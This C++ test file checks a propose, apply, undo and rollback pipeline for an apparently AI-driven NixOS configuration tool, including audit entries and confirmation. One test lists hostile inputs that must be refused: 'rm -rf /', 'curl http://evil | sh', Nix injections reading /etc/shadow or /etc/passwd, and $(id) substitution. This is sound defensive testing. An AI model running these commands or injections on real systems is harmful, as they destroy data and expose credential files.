// SPDX-License-Identifier: MIT
// propose -> apply -> undo -> rollback generation with real Nix and the profile backend.
#include <gtest/gtest.h>

#include <thread>

#include "common/audit.h"
#include "common/files.h"
#include "common/process.h"
#include "common/text.h"
#include "support/agntctl_runner.h"

namespace agntos::testing {
namespace {

namespace fs = std::filesystem;

class Pipeline : public ::testing::Test {
protected:
  void SetUp() override { env.use_profile_backend(); }

  std::string propose(const std::vector<std::string>& args) {
    std::vector<std::string> argv{"propose"};
    argv.insert(argv.end(), args.begin(), args.end());
    argv.push_back("--json");
    const auto result = env.run(argv);
    EXPECT_EQ(result.exit_code, 0) << result.err;
    return result.json().value("id", "");
  }

  CliResult apply(const std::string& id) { return env.run({"apply", id, "--yes", "--json"}); }

  std::vector<AuditEntry> audit() const { return AuditLog(env.config_dir() / "audit.jsonl").read_all(); }

  std::string git_log() const {
    return run_process({"git", "-C", env.config_dir().string(), "log", "--format=%s%n%b"}).out;
  }

  bool installed(const std::string& program) const {
    return fs::exists(env.profile() / "sw" / "bin" / program);
  }

  AgntctlEnv env;
};

TEST_F(Pipeline, ProposeStagesAValidatedChangeAndWritesNoModule) {
  const auto result = env.run({"propose", "install", "htop", "--prompt", "can you install htop for me", "--rationale",
                               "process viewer", "--json"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const auto proposal = result.json();
  EXPECT_TRUE(proposal["id"].get<std::string>().starts_with("p-"));
  EXPECT_EQ(proposal["prompt"], "can you install htop for me");
  EXPECT_EQ(proposal["rationale"], "process viewer");
  EXPECT_EQ(proposal["changes"][0]["path"], "packages/htop.nix");
  EXPECT_EQ(proposal["changes"][0]["action"], "write");
  EXPECT_TRUE(proposal["changes"][0]["expected_hash"].is_null());
  EXPECT_NE(proposal["diff"].get<std::string>().find("+  environment.systemPackages = [ pkgs.htop ];"), std::string::npos);
  EXPECT_TRUE(proposal["validation"]["ok"].get<bool>());
  EXPECT_FALSE(proposal["base"].get<std::string>().empty());
  EXPECT_FALSE(proposal["rollback_guidance"].get<std::string>().empty());
  EXPECT_FALSE(fs::exists(env.config_dir() / "packages/htop.nix"));
  EXPECT_TRUE(fs::exists(env.config_dir() / "proposals" / (proposal["id"].get<std::string>() + ".json")));
  // Text form shows summary, diff and id.
  const auto text = env.run({"propose", "install", "btop"});
  EXPECT_NE(text.out.find("Install"), std::string::npos);
  EXPECT_NE(text.out.find("+++ b/packages/btop.nix"), std::string::npos);
  EXPECT_NE(text.out.find("agntctl apply p-"), std::string::npos);
}

TEST_F(Pipeline, MissingPackageIsRefusedWithSuggestion) {
  const auto result = env.run({"propose", "install", "htopp", "--json"});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_EQ(result.json()["error"]["code"], "validation");
  EXPECT_NE(result.err.find("did you mean htop"), std::string::npos) << result.err;
  EXPECT_FALSE(fs::exists(env.config_dir() / "proposals"));
}

TEST_F(Pipeline, NixSyntaxErrorIsRefusedQuotingNix) {
  const auto result = env.run({"propose", "--module", "modules/broken.nix", "--nix", "{ pkgs, ... }: { x = ; }"});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_NE(result.err.find("syntax error"), std::string::npos) << result.err;
  EXPECT_NE(result.err.find((env.config_dir() / "modules/broken.nix").string()), std::string::npos) << result.err;
}

// Syntax and shape are checked for all written files in one Nix run; a refusal still names the
// one file at fault and quotes the check that failed.
TEST_F(Pipeline, OfSeveralModulesTheRefusalNamesTheOneAtFault) {
  const auto syntax = env.run({"propose", "--module", "modules/good.nix", "--nix", "{ ... }: { }", "--module",
                               "modules/broken.nix", "--nix", "{ pkgs, ... }: { x = ; }"});
  EXPECT_EQ(syntax.exit_code, 3);
  EXPECT_NE(syntax.err.find("Nix syntax error in " + (env.config_dir() / "modules/broken.nix").string()), std::string::npos)
      << syntax.err;
  EXPECT_EQ(syntax.err.find("good.nix"), std::string::npos) << syntax.err;
  const auto shape = env.run({"propose", "--module", "modules/good.nix", "--nix", "{ ... }: { }", "--module",
                              "modules/number.nix", "--nix", "42"});
  EXPECT_EQ(shape.exit_code, 3);
  EXPECT_NE(shape.err.find("module " + (env.config_dir() / "modules/number.nix").string() +
                           " does not have the shape of a NixOS module"),
            std::string::npos)
      << shape.err;
  EXPECT_EQ(env.run({"propose", "--module", "modules/a.nix", "--nix", "{ ... }: { }", "--module", "modules/b.nix", "--nix",
                     "{ }", "--no-build"})
                .exit_code,
            0);
}

TEST_F(Pipeline, ModuleOfTheWrongShapeIsRefused) {
  const auto result = env.run({"propose", "--module", "modules/list.nix", "--nix", "\"a string is not a module\""});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_NE(result.err.find("function or an attribute set"), std::string::npos) << result.err;
}

TEST_F(Pipeline, PathsOutsideTheModuleFoldersAreRefused) {
  for (const char* path : {"../escape.nix", "/etc/passwd", "secrets/x.nix", "packages/../../x.nix", "packages/a/b.nix",
                           "packages/x.txt", "proposals/p-1.nix"}) {
    const auto result = env.run({"propose", "--module", path, "--nix", "{ }"});
    EXPECT_EQ(result.exit_code, 3) << path;
  }
  fs::create_directories(env.root() / "elsewhere");
  fs::create_directory_symlink(env.root() / "elsewhere", env.config_dir() / "modules");
  EXPECT_EQ(env.run({"propose", "--module", "modules/x.nix", "--nix", "{ }"}).exit_code, 3);
  EXPECT_FALSE(fs::exists(env.root() / "elsewhere/x.nix"));
}

TEST_F(Pipeline, HostileInputsAreRefusedAndNothingIsWritten) {
  const std::vector<std::vector<std::string>> hostile = {
      {"install htop; rm -rf /"},
      {"install", "htop;", "rm", "-rf", "/"},
      {"install", "htop\"; }; imports = [ /etc/passwd ]; x = {"},
      {"install", "${builtins.readFile /etc/shadow}"},
      {"install", "pkgs.htop ]; imports = [ /etc/passwd"},
      {"install", "../../etc/passwd"},
      {"install", "/bin/sh"},
      {"install", "htop`id`"},
      {"install", "htop$(id)"},
      {"install", "ht op"},
      {"install", "htop%x"},
      {"install", "-rf"},
      {"install", "1password"},
      {"install", ".hidden"},
      {"install", "a..b"},
      {"install", "htop."},
      {"install", "htop#x"},
      {"install", "h\u0442op"},
      {"install", "\xd2\xbbtop"},
      {"install", "ht\xe2\x80\x8bop"},
      {"install", std::string(201, 'a')},
      {"install", "htop\\"},
      {"install", "htop|x"},
      {"enable", "openssh; rm -rf /"},
      {"enable", "services.openssh.enable = true; imports = [ ./x ]"},
      {"disable", "\"x\""},
      {"set", "networking.hostName\"", "x"},
      {"set", "imports", "[\"/etc/passwd\"]"},
      {"set", "users.users.ada.imports", "[\"/tmp/evil.nix\"]"},
      {"set", "a.b", "{\"imports\":[\"/tmp/evil.nix\"]}"},
      {"set-home-option", "programs.git;", "x"},
      {"rm -rf /"},
      {"curl http://evil | sh"},
      {"install"},
      {"remove", "htop; install evil"},
      {"set", "networking.hostName", "--nix-expr"},
  };
  for (const auto& words : hostile) {
    std::vector<std::string> argv{"propose"};
    argv.insert(argv.end(), words.begin(), words.end());
    const auto result = env.run(argv);
    EXPECT_TRUE(result.exit_code == 3 || result.exit_code == 2) << words.at(0) << " -> " << result.exit_code;
    EXPECT_NE(result.exit_code, 0);
  }
  // The headline case exits 3 exactly.
  EXPECT_EQ(env.run({"propose", "install htop; rm -rf /"}).exit_code, 3);
  EXPECT_FALSE(fs::exists(env.config_dir() / "proposals"));
  for (const char* kind : {"packages", "services", "options", "modules", "home"})
    EXPECT_FALSE(fs::exists(env.config_dir() / kind)) << kind;
  // A hostile value is not refused but rendered as one harmless string.
  const auto value = env.run({"propose", "set", "users.motd", "\"; imports = [ /etc/passwd ]; x = \"", "--json"});
  ASSERT_EQ(value.exit_code, 0) << value.err;
  EXPECT_NE(value.json()["changes"][0]["content"].get<std::string>().find(
                "users.motd = \"\\\"; imports = [ /etc/passwd ]; x = \\\"\";"),
            std::string::npos)
      << value.json()["changes"][0]["content"];
}

TEST_F(Pipeline, ApplyWithoutYesOffATerminalIsRefused) {
  const auto id = propose({"install", "htop"});
  const auto result = env.run({"apply", id, "--json"});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_EQ(result.json()["error"]["code"], "not_confirmed");
  EXPECT_FALSE(fs::exists(env.config_dir() / "packages/htop.nix"));
}

TEST_F(Pipeline, ApplyInstallsCommitsAndAudits) {
  const auto id = propose({"install", "htop", "--prompt", "can you install htop for me"});
  const auto result = apply(id);
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_TRUE(fs::exists(env.config_dir() / "packages/htop.nix"));
  EXPECT_TRUE(installed("htop"));
  EXPECT_FALSE(fs::exists(env.config_dir() / "proposals" / (id + ".json")));
  EXPECT_FALSE(fs::exists(env.config_dir() / ".agntos-journal.json"));

  const auto entry = result.json();
  EXPECT_EQ(entry["action"]["type"], "Apply");
  EXPECT_EQ(entry["proposal_id"], id);
  EXPECT_EQ(entry["prompt"], "can you install htop for me");
  EXPECT_EQ(entry["approved_by"], "--yes");
  EXPECT_EQ(entry["generation_after"], 1);
  EXPECT_EQ(entry["packages"], Json::array({"htop"}));
  EXPECT_EQ(entry["files_written"][0], (env.config_dir() / "packages/htop.nix").string());
  EXPECT_EQ(entry["commit"].get<std::string>().size(), 40u);
  EXPECT_NE(git_log().find("Prompt: can you install htop for me"), std::string::npos) << git_log();

  const auto why = env.run({"audit", "search", "why is htop installed", "--json"}).json();
  ASSERT_GE(why["entries"].size(), 1u);
  EXPECT_EQ(why["entries"][0]["prompt"], "can you install htop for me");
  // Applying the same proposal twice is impossible: it is gone.
  EXPECT_EQ(apply(id).exit_code, 1);
}

TEST_F(Pipeline, StaleProposalIsAConflict) {
  const auto first = propose({"install", "htop"});
  const auto second = propose({"--module", "packages/htop.nix", "--nix", "{ pkgs, ... }: { }"});
  ASSERT_EQ(apply(first).exit_code, 0);
  const auto result = apply(second);
  EXPECT_EQ(result.exit_code, 4);
  EXPECT_EQ(result.json()["error"]["code"], "stale");
  EXPECT_NE(result.err.find("propose"), std::string::npos);
}

TEST_F(Pipeline, RemoveDisableAndSetWriteTheExpectedModules) {
  ASSERT_EQ(apply(propose({"install", "htop"})).exit_code, 0);
  ASSERT_EQ(apply(propose({"remove", "htop"})).exit_code, 0);
  EXPECT_FALSE(fs::exists(env.config_dir() / "packages/htop.nix"));
  EXPECT_FALSE(installed("htop"));
  EXPECT_EQ(env.run({"propose", "remove", "htop"}).exit_code, 3);  // not managed any more

  ASSERT_EQ(apply(propose({"disable", "openssh"})).exit_code, 0);
  EXPECT_NE(read_file(env.config_dir() / "services/openssh.nix").find("services.openssh.enable = false;"),
            std::string::npos);
  ASSERT_EQ(apply(propose({"set", "networking.hostName", "demo"})).exit_code, 0);
  const auto manifest = Json::parse(read_file(env.profile() / "manifest.json"));
  EXPECT_EQ(manifest["options"]["networking"]["hostName"], "demo");
  EXPECT_EQ(manifest["options"]["services"]["openssh"]["enable"], false);
}

class PipelineFailure : public Pipeline {
protected:
  // A hand-written module whose exact bytes must survive a failed apply.
  void SetUp() override {
    Pipeline::SetUp();
    fs::create_directories(env.config_dir() / "packages");
    write_file_atomic(env.config_dir() / "packages/hello.nix", kOriginal);
  }
  void expect_restored(const CliResult& result, const std::string& error_fragment) {
    EXPECT_EQ(result.exit_code, 1) << result.err;
    EXPECT_NE(result.err.find(error_fragment), std::string::npos) << result.err;
    EXPECT_EQ(read_file(env.config_dir() / "packages/hello.nix"), kOriginal);
    EXPECT_FALSE(fs::exists(env.config_dir() / "modules/extra.nix"));
    EXPECT_FALSE(fs::exists(env.config_dir() / ".agntos-journal.json"));
    const auto entries = audit();
    ASSERT_FALSE(entries.empty());
    EXPECT_EQ(entries.back().result.status, AuditStatus::failed);
    EXPECT_FALSE(entries.back().result.error.value_or("").empty());
  }
  static constexpr const char* kOriginal = "# hand-written \t trailing space \n{ pkgs, ... }: { environment.systemPackages = [ pkgs.hello ]; }";
};

// Evaluation and build errors surface in the plan, before anyone is asked and before any file
// is written (issue 10): propose --no-build lets them through to apply.
TEST_F(PipelineFailure, EvaluationErrorIsRefusedBeforeAnythingIsWritten) {
  const auto id = propose({"--no-build", "--module", "packages/hello.nix", "--nix",
                           "{ pkgs, ... }: { environment.systemPackages = [ pkgs.hellooo ]; }", "--module",
                           "modules/extra.nix", "--nix", "{ ... }: { }"});
  const auto result = apply(id);
  EXPECT_EQ(result.exit_code, 3) << result.err;
  EXPECT_NE(result.err.find("attribute 'hellooo' missing"), std::string::npos) << result.err;
  EXPECT_EQ(read_file(env.config_dir() / "packages/hello.nix"), kOriginal);
  EXPECT_FALSE(fs::exists(env.config_dir() / "modules/extra.nix"));
  EXPECT_FALSE(fs::exists(env.config_dir() / ".agntos-journal.json"));
  EXPECT_TRUE(fs::exists(env.config_dir() / "proposals" / (id + ".json")));  // kept for another try
}

TEST_F(PipelineFailure, BuildFailureIsRefusedBeforeAnythingIsWritten) {
  ASSERT_EQ(apply(propose({"install", "htop"})).exit_code, 0);  // generation 1
  const auto id = propose({"--no-build", "--module", "packages/hello.nix", "--nix",
                           "{ pkgs, ... }: { environment.systemPackages = [ pkgs.agntos-test-broken ]; }"});
  const auto result = apply(id);
  EXPECT_EQ(result.exit_code, 3) << result.err;
  EXPECT_NE(result.err.find("agntos-test-broken"), std::string::npos) << result.err;
  EXPECT_EQ(read_file(env.config_dir() / "packages/hello.nix"), kOriginal);
  EXPECT_TRUE(installed("htop"));
}

// An activation that fails after the new generation was made: files restored byte-exactly and
// the previous generation running again. nix-env is wrapped (the process seam) so that it sets
// the profile and then reports a failure.
TEST_F(PipelineFailure, ActivationFailureRestoresFilesAndGeneration) {
  ASSERT_EQ(apply(propose({"install", "htop"})).exit_code, 0);  // generation 1
  const auto id = propose({"--module", "packages/hello.nix", "--nix",
                           "{ pkgs, ... }: { environment.systemPackages = [ pkgs.btop ]; }"});
  const auto shim = env.root() / "shim";
  fs::create_directories(shim);
  const auto real = run_process({"sh", "-c", "command -v nix-env"}).out;
  write_file_atomic(shim / "nix-env",
                    "#!/bin/sh\n" + std::string(trim(real)) +
                        " \"$@\" || exit $?\ncase \"$*\" in *--set*) echo 'activation failed (test)' >&2; exit 1;; esac\n",
                    0755);
  env.env["PATH"] = shim.string() + ":" + std::getenv("PATH");
  expect_restored(apply(id), "activation failed (test)");
  EXPECT_TRUE(installed("htop"));
  EXPECT_FALSE(installed("btop"));
  EXPECT_EQ(audit().back().generation_after, 1);
}

TEST_F(PipelineFailure, MissingRebuildProgramRestoresFiles) {
  const auto id = propose({"--module", "modules/extra.nix", "--nix", "{ ... }: { }"});
  write_file_atomic(env.config_dir() / "agntos.toml", "[rebuild]\nbackend = \"nixos\"\n");
  expect_restored(apply(id), "nixos-rebuild");
}

TEST_F(Pipeline, ConcurrentAppliesOfIndependentProposalsBothLand) {
  const auto first = propose({"install", "htop"});
  const auto second = propose({"install", "btop"});
  CliResult a;
  CliResult b;
  std::thread one([&] { a = apply(first); });
  std::thread two([&] { b = apply(second); });
  one.join();
  two.join();
  EXPECT_EQ(a.exit_code, 0) << a.err;
  EXPECT_EQ(b.exit_code, 0) << b.err;
  EXPECT_TRUE(installed("htop") && installed("btop"));
  const auto entries = audit();
  ASSERT_EQ(entries.size(), 2u);
  EXPECT_NE(entries[0].generation_after, entries[1].generation_after);
}

TEST_F(Pipeline, ConcurrentAppliesOfTheSameFileSerialize) {
  const auto first = propose({"install", "htop"});
  const auto second = propose({"--module", "packages/htop.nix", "--nix",
                               "{ pkgs, ... }: { environment.systemPackages = [ pkgs.btop ]; }"});
  CliResult a;
  CliResult b;
  std::thread one([&] { a = apply(first); });
  std::thread two([&] { b = apply(second); });
  one.join();
  two.join();
  // Both write packages/htop.nix from the same state: exactly one applies, the other is stale.
  EXPECT_EQ((a.exit_code == 0) + (b.exit_code == 0), 1) << a.err << b.err;
  EXPECT_EQ((a.exit_code == 4) + (b.exit_code == 4), 1) << a.err << b.err;
  EXPECT_EQ(installed("htop") + installed("btop"), 1);
  size_t applies = 0;
  for (const auto& entry : audit()) applies += entry.action.type == AuditActionType::apply;
  EXPECT_EQ(applies, 1u);
}

TEST_F(Pipeline, UndoRestoresExactlyAndRefusesWhenLaterChangesTouchedTheFiles) {
  const auto first = apply(propose({"install", "htop", "--prompt", "I want htop"})).json();
  const std::string first_id = first["id"];
  ASSERT_EQ(apply(propose({"--module", "packages/htop.nix", "--nix",
                           "{ pkgs, ... }: { environment.systemPackages = [ pkgs.htop pkgs.btop ]; }"}))
                .exit_code,
            0);
  const auto refused = env.run({"rollback", "undo", first_id, "--yes", "--json"});
  EXPECT_EQ(refused.exit_code, 3);
  EXPECT_NE(refused.err.find("later changes"), std::string::npos) << refused.err;

  // Undo the last change (default), then the first.
  const auto undo_last = env.run({"rollback", "undo", "--yes", "--json"});
  ASSERT_EQ(undo_last.exit_code, 0) << undo_last.err;
  EXPECT_FALSE(installed("btop"));
  EXPECT_TRUE(installed("htop"));
  const auto undo_first = env.run({"rollback", "undo", first_id, "--yes", "--json"});
  ASSERT_EQ(undo_first.exit_code, 0) << undo_first.err;
  EXPECT_EQ(undo_first.json()["undoes"], first_id);
  EXPECT_EQ(undo_first.json()["action"]["type"], "Undo");
  EXPECT_FALSE(fs::exists(env.config_dir() / "packages/htop.nix"));
  EXPECT_FALSE(installed("htop"));
  EXPECT_EQ(env.run({"rollback", "undo", first_id, "--yes"}).exit_code, 3);  // already undone
}

TEST_F(Pipeline, GenerationRollbackRestoresTreeAndHistoryMatchesAudit) {
  ASSERT_EQ(apply(propose({"install", "htop", "--prompt", "first ask"})).exit_code, 0);   // gen 1
  ASSERT_EQ(apply(propose({"install", "btop", "--prompt", "second ask"})).exit_code, 0);  // gen 2
  ASSERT_EQ(env.run({"rollback", "undo", "--yes"}).exit_code, 0);                         // gen 3
  const auto rollback = env.run({"rollback", "generation", "1", "--yes", "--json"});
  ASSERT_EQ(rollback.exit_code, 0) << rollback.err;
  EXPECT_EQ(rollback.json()["generation_after"], 1);
  EXPECT_TRUE(installed("htop"));
  EXPECT_FALSE(installed("btop"));
  EXPECT_TRUE(fs::exists(env.config_dir() / "packages/htop.nix"));
  EXPECT_FALSE(fs::exists(env.config_dir() / "packages/btop.nix"));

  // One commit per change, each carrying its prompt.
  const auto log = git_log();
  EXPECT_NE(log.find("Prompt: first ask"), std::string::npos) << log;
  EXPECT_NE(log.find("Prompt: second ask"), std::string::npos) << log;
  EXPECT_NE(log.find("Rolled back to generation 1"), std::string::npos) << log;
  const auto commits = run_process({"git", "-C", env.config_dir().string(), "rev-list", "--count", "HEAD"}).out;
  EXPECT_EQ(std::stoi(commits), 5);  // initial + 2 applies + undo + rollback

  // Generations listed with the audit entries that made them.
  const auto list = env.run({"rollback", "list", "--json"}).json();
  ASSERT_EQ(list["generations"].size(), 3u);
  EXPECT_EQ(list["generations"][0]["prompt"], "first ask");
  EXPECT_TRUE(list["generations"][0]["current"].get<bool>());
  EXPECT_EQ(list["generations"][1]["prompt"], "second ask");
  for (const auto& entry : audit()) {
    if (entry.result.status == AuditStatus::success && entry.generation_after) {
      EXPECT_TRUE(fs::exists(env.profile().string() + "-" + std::to_string(*entry.generation_after) + "-link"));
    }
  }
}

TEST_F(Pipeline, BareRollbackLists) {
  const auto result = env.run({"rollback"});
  EXPECT_EQ(result.exit_code, 0);
  EXPECT_NE(result.out.find("no generations yet"), std::string::npos);
}

}  // namespace
}  // namespace agntos::testing
